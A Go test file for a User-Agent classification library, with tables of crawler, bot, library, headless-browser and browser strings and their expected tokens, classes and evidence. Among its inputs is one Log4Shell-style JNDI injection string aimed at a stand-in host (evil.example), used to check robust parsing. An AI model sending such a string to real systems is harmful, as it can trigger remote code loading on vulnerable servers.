package uaident

import (
	"strings"
	"testing"
)

type identifyTest struct {
	ua, token string
	class     Class
	evidence  Evidence
}

// identifyTests are User-Agents by the rule that applies.
var identifyTests = map[string][]identifyTest{
	"nothing": {
		{"", "", Browser, NoEvidence},
		{"-", "", Browser, NoEvidence},
		{" ", "", Browser, NoEvidence},
		{"()", "", Browser, NoEvidence},
		{"12.5", "", Browser, NoEvidence},
		{"\x00\xff\xfe", "", Browser, NoEvidence},
	},
	"words": {
		{"Googlebot", "Googlebot", Search, FromRegistry},
		{"GOOGLEBOT/2.1", "GOOGLEBOT", Search, FromRegistry},
		{"Googlebot-Image/1.0", "Googlebot-Image", Search, FromRegistry},
		{"Mozilla/5.0 (compatible; Googlebot.)", "Googlebot", Search, FromRegistry},
		{"Mozilla/5.0 (compatible; archive.org_bot; +http://archive.org/details/archive.org_bot)", "archive.org_bot", Archive, FromRegistry},
		{"Mozilla/5.0 (compatible; Linux x86_64; Mail.RU_Bot/2.1; +https://help.mail.ru/)", "Mail.RU_Bot", Search, FromRegistry},
		{"Y!J-ASR/1.0 crawler (https://support.yahoo-net.jp/)", "Y!J-ASR", Search, FromRegistry},
		{"008/0.85 (http://www.80legs.com/)", "008", GenericCrawler, FromRegistry},
		{chrome + " xGPTBot/1.0x", "xGPTBot", GenericCrawler, FromSuffix},
		{chrome + " GPTBots-Lover/1.0", "", Browser, NoEvidence},
	},
	"names of several words": {
		{"Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm)", "Sogou web spider", Search, FromRegistry},
		{"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/)", "Yahoo! Slurp", Search, FromRegistry},
		{"Screaming Frog SEO Spider/20.1", "Screaming Frog SEO Spider", SEO, FromRegistry},
		{"LWP::Simple/6.00", "LWP::Simple", Library, FromLibrary},
		{"Acme Price Crawler/2.0 (+https://acme.example/)", "Acme Price Crawler", GenericCrawler, FromSuffix},
		{"Mozilla/5.0 (compatible; Acme Price Watch/2.0; +https://acme.example/)", "Acme Price Watch", GenericCrawler, FromConvention},
		{"Jane's Spider (https://jane.example/)", "Jane's Spider", GenericCrawler, FromSuffix},
		{"acme.example.com Link Walker 2", "acme.example.com", Other, FromContact},
	},
	"contacts": {
		{"Acme/1.0 (+https://acme.example/about)", "Acme", Other, FromContact},
		{"AcmeClient/1.0 (+https://bots.acme.example)", "AcmeClient", Other, FromContact},
		{"Acme/1.0 (crawl@acme.example)", "Acme", GenericCrawler, FromRobotContact},
		{"Acme/1.0 (+https://acme.example/bot.html)", "Acme", GenericCrawler, FromRobotContact},
		{"Acme/1.0 (+https://acme.example/help/robots)", "Acme", GenericCrawler, FromRobotContact},
		{"Acme/1.0 (+https://acme.example/about/acmebot)", "Acme", GenericCrawler, FromRobotContact},
		{"Acme/1.0 (+https://crawler.acme.example/)", "Acme", GenericCrawler, FromRobotContact},
		{"Acme/1.0 (webspider@acme.example)", "Acme", GenericCrawler, FromRobotContact},
		{"Acme/1.0 (+https://bothnia.example/bottles)", "Acme", Other, FromContact},
		{"Acme/1.0 (+https://github.com/acme/chat-bot)", "Acme", Other, FromContact}, // a link to source code
		{"Acme/1.0 (+https://acme.example/uptime-bot)", "Acme", Other, FromContact},
		{"Mozilla/5.0 (X11; Linux x86_64) Acme/1.0 (+https://acme.example/)", "Acme", Other, FromContact},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64; Acme/1.0; +https://acme.example/) Firefox/120.0", "Acme", Other, FromContact},
		// A browser extension adds its name to the browser's User-Agent.
		{chrome + " AcmeBlock/1.2 (https://acme.example)", "", Browser, NoEvidence},
		// Words of a URL are not products.
		{"Mozilla/5.0 (Windows NT 10.0) Chrome/99 https://www.example.com/Googlebot/FooBot", "", Browser, NoEvidence},
		// A version with an at sign, and a provider's site in an old toolbar.
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari/604.1 (Ecosia ios@11.0.1.2)", "", Browser, NoEvidence},
		{"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; Acme Internet; www.acme.example)", "", Browser, NoEvidence},
	},
	"like": {
		{"Mozilla/5.0 (compatible; Applebot/0.1; like Googlebot)", "Applebot", Search, FromRegistry},
		{"TelegramBot (like TwitterBot)", "TelegramBot", Preview, FromRegistry},
		{chrome + " (like FooBot)", "", Browser, NoEvidence},
		{"Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)", "Feedly", Feed, FromRegistry},
	},
	"device fields": {
		{"Mozilla/5.0 (Linux; Android 13; CUBOT NOTE 21) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Linux; Android 13; Moon Spider 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Linux; U; Android 8.1; de; Kinder_Robot_2 Build/O11) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/70.0.0.0 Safari/537.36", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Linux; U; de; CUBOT_NOTE_S) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.0.0 Mobile Safari/537.36", "", Browser, NoEvidence},
		{"ShopApp/3.1 Android (33/13; 420dpi; ACME; Talkbot; mt6765)", "ShopApp", Other, FromFirstProduct},
		{"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", Search, FromRegistry},
		{"Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3; DuplexWeb-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.0.0 Mobile Safari/537.36", "DuplexWeb-Google", AIAssistant, FromRegistry},
	},
	"a name that is spared hides none that is not": {
		{"UptimeRobot/2.0 GPTBot/1.2", "GPTBot", AITraining, FromRegistry},
		{"facebookexternalhit/1.1 bingbot/2.0", "bingbot", Search, FromRegistry},
		{"UptimeRobot/2.0 FooBot/1.0", "FooBot", GenericCrawler, FromSuffix},
		{"Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/; FooBot/1.0)", "FooBot", GenericCrawler, FromSuffix},
		{"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "Slackbot-LinkExpanding", Preview, FromRegistry},
		{"Synapse (bot; +https://github.com/matrix-org/synapse)", "Synapse", Preview, FromRegistry},
		{"UptimeRobot/2.0 (like FooBot/1.0)", "UptimeRobot", Monitor, FromRegistry},
		{"UptimeRobot/2.0 BetterUptimeBot/1.0", "UptimeRobot", Monitor, FromRegistry},
	},
	"names that only case tells apart": {
		{"Mozilla/5.0 (compatible; Exabot/3.0; +http://www.exabot.com/go/robot)", "Exabot", Search, FromRegistry},
		{"Mozilla/5.0 (compatible; ExaBot/1.0)", "ExaBot", AISearch, FromRegistry},
		{"EXABOT/3.0", "EXABOT", Search, FromRegistry},
		{"Exabot-Images/3.0", "Exabot-Images", Search, FromRegistry},
	},
	"an app that has a crawler's name": {
		{"Pinterest/0.2 (+https://www.pinterest.com/bot.html)", "Pinterest", GenericCrawler, FromRegistry},
		{"Pinterest for Android/9.0.4 (ACME; 9)", "Pinterest", Other, FromFirstProduct},
		{"Mozilla/5.0 (compatible; Pinterestbot/1.0)", "Pinterestbot", GenericCrawler, FromRegistry},
	},
	"several tokens": {
		// The first product takes precedence.
		{"LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)", "LinkedInBot", Preview, FromRegistry},
		{"AcmeBot/1.0 (compatible; Googlebot/2.1; +https://acme.example/)", "AcmeBot", GenericCrawler, FromSuffix},
		// Then a name with a contact takes precedence.
		{"Mozilla/5.0 (compatible; Facebot; Twitterbot/1.0; +https://acme.example/) Discordbot", "Facebot", Preview, FromRegistry},
		{"Mozilla/5.0 (X11) Facebot Safari/600 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot)", "DotBot", SEO, FromRegistry},
		// A link preview that a messenger fetches on the reader's device.
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0", "facebookexternalhit", Preview, FromRegistry},
		// A suffix that a hosting platform adds.
		{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/) AppEngine-Google; (+http://code.google.com/appengine; appid: s~example)", "AhrefsBot", SEO, FromRegistry},
		{"ExampleBot/1.0 AppEngine-Google; (+http://code.google.com/appengine; appid: s~example)", "ExampleBot", GenericCrawler, FromSuffix},
		// A program that names only its hosting platform.
		{"AppEngine-Google; (+http://code.google.com/appengine; appid: s~example)", "example", Library, FromLibrary},
		{chrome + " AppEngine-Google; (+http://code.google.com/appengine; appid: example)", "example", Library, FromLibrary},
		{"AppEngine-Google; (+http://code.google.com/appengine)", "AppEngine-Google", Library, FromLibrary},
		{"AppEngine-Google; (+http://code.google.com/appengine; appid: s~slurp)", "AppEngine-Google", Library, FromLibrary},
		// A name instead of a version.
		{"foo/FooBot (Foo; http://foo.example/crawler)", "FooBot", GenericCrawler, FromSuffix},
		{"foo/foobar (crawler; http://foo.example/about)", "foo", GenericCrawler, FromSuffix},
		// A robot's name first, and a site after "compatible;".
		{"fooSpyder (compatible; foo.example; +http://foo.example/doc.html)", "fooSpyder", GenericCrawler, FromSuffix},
		{"FooBot/2.0 (compatible; Acme/1.0; +https://acme.example/)", "FooBot", GenericCrawler, FromSuffix},
		{"Foo/2.0 (compatible; Acme/1.0; +https://acme.example/)", "Acme", GenericCrawler, FromConvention},
		{"Foo/2.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)", "Foo", Other, FromFirstProduct},
		{"FooUptimeBot/2.0 (compatible; Acme/1.0; +https://acme.example/)", "Acme", GenericCrawler, FromConvention}, // the service's name does not hide the crawler
		// Words before a robot's name are not part of the name.
		{chrome + " Acme Group AcmeBot", "AcmeBot", GenericCrawler, FromSuffix},
		{chrome + " ### This is a crawler", "crawler", GenericCrawler, FromSuffix},
		// A name of the registry with a version that ends in letters.
		{"foo.example/research//Nutch-1.7-SNAPSHOT", "Nutch-1", GenericCrawler, FromRegistry},
		{"Foo/Nutch-1.5-dev (Foo; http://foo.example/)", "Nutch-1", GenericCrawler, FromRegistry},
		{"Nutch-1.5-dev", "Nutch-1", GenericCrawler, FromRegistry},
		{"Nutch-dev", "Nutch-dev", Other, FromFirstProduct},
		{"Nutch-2-Foo", "Nutch-2-Foo", Other, FromFirstProduct},
		{"Nutch-Foo-1.5", "Nutch-Foo-1", Other, FromFirstProduct},
		{chrome + " FooNutch-1.7-SNAPSHOT", "", Browser, NoEvidence},
		// A crawler takes precedence over the library that it uses.
		{"http.rb/5.2.0 (Mastodon/4.3.0; +https://social.example/)", "Mastodon", Service, FromRegistry},
		{"W3C-checklink/4.5 [4.160] libwww-perl/5.823", "W3C-checklink", Monitor, FromRegistry},
	},
	"families": {
		{"Googlebot-Weather/1.0", "Googlebot-Weather", Search, FromFamily},
		{"Baiduspider-weather+(+http://www.baidu.com/search/spider.htm)", "Baiduspider-weather", Search, FromFamily},
		{"GoogleOther-Weather", "GoogleOther-Weather", AITraining, FromFamily},
		{"Mozilla/5.0 (compatible; YandexWeather/3.0; +http://yandex.com/bots)", "YandexWeather", Search, FromFamily},
		{"Mozilla/5.0 (compatible; Qwantify-prod7/1.0; +https://help.qwant.com/bot/)", "Qwantify-prod7", Search, FromFamily},
		{"YandexWeather/8.1 (iPhone; iOS 18.0)", "YandexWeather", Other, FromFirstProduct}, // an app
	},
	"names that apps have too": {
		{"Pinterest/0.2 (+https://www.pinterest.com/bot.html)", "Pinterest", GenericCrawler, FromRegistry},
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]", "", Browser, NoEvidence},
		{"WhatsApp/2.23.20.0", "WhatsApp", Preview, FromRegistry},
		{"Mozilla/5.0 (Linux; Android 12; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Mobile Safari/537.36 WhatsApp/2.24", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Java) outbrain", "outbrain", Ads, FromRegistry},
	},
	"structure": {
		{"FooBarBot/3.1", "FooBarBot", GenericCrawler, FromSuffix},
		{"foobar-crawler", "foobar-crawler", GenericCrawler, FromSuffix},
		{"FooBot-ES/1.0", "FooBot-ES", GenericCrawler, FromSuffix},
		{"FooBotCollector", "FooBotCollector", GenericCrawler, FromSuffix},
		{"FooBot2", "FooBot2", GenericCrawler, FromSuffix},
		{"FooBot-2.7/x", "FooBot-2", GenericCrawler, FromSuffix},
		{"Robotics/1.0", "Robotics", Other, FromFirstProduct},
		{"BOTHNIA/1.0", "BOTHNIA", Other, FromFirstProduct},
		{"Mozilla/5.0 (compatible; Foobar)", "Foobar", Other, FromCompatible},
		{"Mozilla/5.0 (compatible; Foobar/1.0)", "Foobar", Other, FromCompatible},
		{chrome + " (compatible; Foobar/1.0)", "Foobar", Other, FromCompatible},
		{"Mozilla/5.0 (compatible; Foobar/1.0; +https://foobar.example/)", "Foobar", GenericCrawler, FromConvention},
		{"Mozilla/5.0 (compatible; Foobar; +https://foobar.example/)", "Foobar", Other, FromCompatible},
		{"Mozilla/5.0 (compatible; Foobar/1.0; https://foobar.example/)", "Foobar", Other, FromCompatible},
		{"Mozilla/5.0 (compatible; Foobar Monitor/1.0; +https://foobar.example/)", "Foobar Monitor", Other, FromCompatible},
		{"Mozilla/5.0 (compatible; Checker/1.0; +https://foobar.example/)", "Checker", Other, FromCompatible},
		{"Mozilla/5.0 (compatible; Checker/1.0)", "Checker", Other, FromCompatible},
		{"Mozilla/4.0 (compatible; Checker/1.0)", "", Browser, NoEvidence},
		{"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; Checker)", "", Browser, NoEvidence},
		{"Mozilla/4.0 (compatible; Foobar/1.0)", "", Browser, NoEvidence}, // browsers of the 1990s
		{"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; Foobar)", "", Browser, NoEvidence},
		{"Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.4 (like Gecko)", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Foobar/1.0)", "Foobar", Other, FromStructure},
		{"Foobar Link Checker", "Foobar Link Checker", Other, FromTool},
		{"page-preview-foobar", "page-preview-foobar", Other, FromTool},
		{"prefetch", "prefetch", Other, FromFirstProduct},
		{"foobar.com", "foobar.com", Other, FromContact},
		{"com.foobar.android/1.0", "com.foobar.android", Other, FromFirstProduct}, // the bundle ID of an app
		{"com.foobar.app/1.0", "com.foobar.app", Other, FromFirstProduct},         // a bundle ID that ends with another top-level domain
		{"de.foobar.dev/1.0", "de.foobar.dev", Other, FromFirstProduct},
		{"com.foobar.app/1.0 Go-http-client/1.1", "Go-http-client", Library, FromLibrary}, // as for com.foobar.android
		{"Google-Test", "Google-Test", Other, FromTool},
		{"Google-000", "Google-000", Other, FromFirstProduct},
		{chrome + " Foobar-Google", "Foobar-Google", Other, FromTool},
		{"Netvibes (crawler; http://www.netvibes.com)", "Netvibes", GenericCrawler, FromSuffix},
		{"Mozilla/5.0 \xff\xfe(compatible; \xe4\xb8\xadBot/1.0)", "Bot", GenericCrawler, FromSuffix},
	},
	"libraries and headless browsers": {
		{"curl/8.7.1", "curl", Library, FromLibrary},
		{"Go-http-client/2.0", "Go-http-client", Library, FromLibrary},
		{"Java/17.0.2", "Java", Library, FromLibrary},
		{"python-requests/2.32.0", "python-requests", Library, FromLibrary},
		{"okhttp/4.12.0", "okhttp", Library, FromLibrary},
		{"node", "node", Library, FromLibrary},
		{"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682", "WindowsPowerShell", Library, FromLibrary},
		{"Foobar-HttpClient/1.0", "Foobar-HttpClient", Library, FromLibrary},
		{"python-requests/2.32.0 (+https://acme.example/)", "python-requests", Library, FromLibrary},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/138.0.0.0 Safari/537.36", "HeadlessChrome", Headless, FromHeadless},
		{"Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1", "PhantomJS", Headless, FromHeadless},
		{chrome + " Playwright/1.40.0", "Playwright", Headless, FromHeadless},
		{chrome + " Robot_Framework/7.1", "Robot_Framework", Headless, FromHeadless},
		{chrome + " RobotFramework/7", "RobotFramework", Headless, FromHeadless},
		{chrome + " Robot-Framework", "Robot-Framework", Headless, FromHeadless},
		{chrome + " Cypress/13.6.0", "Cypress", Headless, FromHeadless},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Cypress/13.6.0 Chrome/114.0.5735.289 Electron/25.8.4 Safari/537.36", "Cypress", Headless, FromHeadless},
		{"Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.6", "PowerShell", Library, FromLibrary},
		{"UCWEB/2.0 (Java; U; MIDP-2.0; en-US; nokia2690) U2/1.0.0 UCBrowser/8.9.0.251 U2/1.0.0 Mobile", "", Browser, NoEvidence},
	},
	"browsers and apps": {
		{chrome, "", Browser, NoEvidence},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15", "", Browser, NoEvidence},
		{"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "", Browser, NoEvidence},
		{"Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.18", "", Browser, NoEvidence},
		{"Lynx/2.9.0 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/3.0.2", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.101.0 Chrome/134.0.6998.205 Electron/35.5.1 Safari/537.36", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Cursor/1.2.2 Chrome/132.0.6834.210 Electron/34.5.1 Safari/537.36", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) AppleSilicon Slack/4.36.140 Chrome/120.0.0.0 Electron/28.1.3 Safari/537.36", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Linux; Android 14; K; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/138.0.0.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/470.0.0.50.77;]", "", Browser, NoEvidence},
		{"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 YaBrowser/25.6.0.0 Mobile Safari/537.36", "", Browser, NoEvidence},
		{"ShopApp/3.1 CFNetwork/1490.0.4 Darwin/23.2.0", "ShopApp", Other, FromFirstProduct},
		{"${jndi:ldap://evil.example/a}", "jndi", Other, FromFirstProduct},
		{"$BotName/$BotVersion [en] (UNIX; U)", "BotName", Other, FromFirstProduct},
		{"ShopApp/3.1 iPhone Mozilla/5.0 (iPhone) (angebot: \"x\")", "ShopApp", Other, FromFirstProduct},
	},
	"escapes": {
		{"Mozilla/5.0%20(compatible;%20GPTBot/1.2;%20+https://openai.com/gptbot)", "GPTBot", AITraining, FromRegistry},
		{"Mozilla/5.0+(compatible;+UptimeRobot/2.0;+http://www.uptimerobot.com/)", "UptimeRobot", Monitor, FromRegistry},
		{"'Mozilla/5.0 (compatible; GPTBot/1.2)'", "GPTBot", AITraining, FromRegistry},
		{"user_agent: foo-crawler", "foo-crawler", GenericCrawler, FromSuffix},
		{"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/140.0", "", Browser, NoEvidence},
		{"Mozilla/5.0 \x00GPTBot\x00", "GPTBot", AITraining, FromRegistry},
	},
}

var identifyTables = []map[string][]identifyTest{identifyTests, serviceTests, appTests, spelledTests}

func TestIdentify(t *testing.T) {
	for _, table := range identifyTables {
		for rule, tests := range table {
			t.Run(rule, func(t *testing.T) {
				for _, tt := range tests {
					id := Identify(tt.ua)
					if id.Token != tt.token || id.Class != tt.class || id.Evidence != tt.evidence {
						t.Errorf("%q\n is %q, class %s, by %s;\nnot %q, class %s, by %s", tt.ua, id.Token, id.Class, id.Evidence, tt.token, tt.class, tt.evidence)
					}
				}
			})
		}
	}
}

// everyUA calls f with all User-Agents of the tables.
func everyUA(f func(ua string)) {
	for _, table := range identifyTables {
		for _, tests := range table {
			for _, tt := range tests {
				f(tt.ua)
			}
		}
	}
	for _, c := range Default().Crawlers() {
		f(c.Token + "/1.0 (+https://www.example.com/)")
	}
}

func TestTokenIgnoresCase(t *testing.T) {
	everyUA(func(ua string) {
		id := Identify(ua)
		if id.Crawler == nil || id.Crawler.ExactCase || id.Evidence == FromFamily { // YandexFoo, but not yandexfoo
			return
		}
		for _, other := range []string{strings.ToUpper(id.Token), strings.ToLower(id.Token)} {
			folded := Identify(strings.ReplaceAll(ua, id.Token, other))
			if folded.Crawler != id.Crawler || folded.Class != id.Class {
				t.Errorf("%q is %v, but %q is not", ua, id.Name(), other)
			}
		}
	})
}

func TestReadsFirst2048Bytes(t *testing.T) {
	everyUA(func(ua string) {
		padded := ua + strings.Repeat(" ", max(0, maxUserAgentBytes-len(ua)))
		if Identify(padded) != Identify(padded+"Googlebot/2.1 (+http://www.google.com/bot.html)") {
			t.Errorf("%q: bytes after the first 2,048 change the identity", ua)
		}
	})
	long := strings.Repeat("Mozilla/5.0 (Windows NT 10.0) ", 400)
	if id := Identify(long); id != (Identity{}) {
		t.Errorf("%+v", id)
	}
	if id := Identify(strings.Repeat("x", 10<<10)); id.Class != Other || len(id.Token) != maxUserAgentBytes {
		t.Errorf("class %s, a token of %d bytes", id.Class, len(id.Token))
	}
}

func TestIdentifyDoesNotAllocate(t *testing.T) {
	o := Default().NewOverlay([]string{"Zorbl", "Green Apple Reader"})
	everyUA(func(ua string) {
		if n := testing.AllocsPerRun(10, func() { Identify(ua); Default().IdentifyWithOverlay(ua, o) }); n != 0 {
			t.Errorf("%q: %v allocations", ua, n)
		}
	})
}
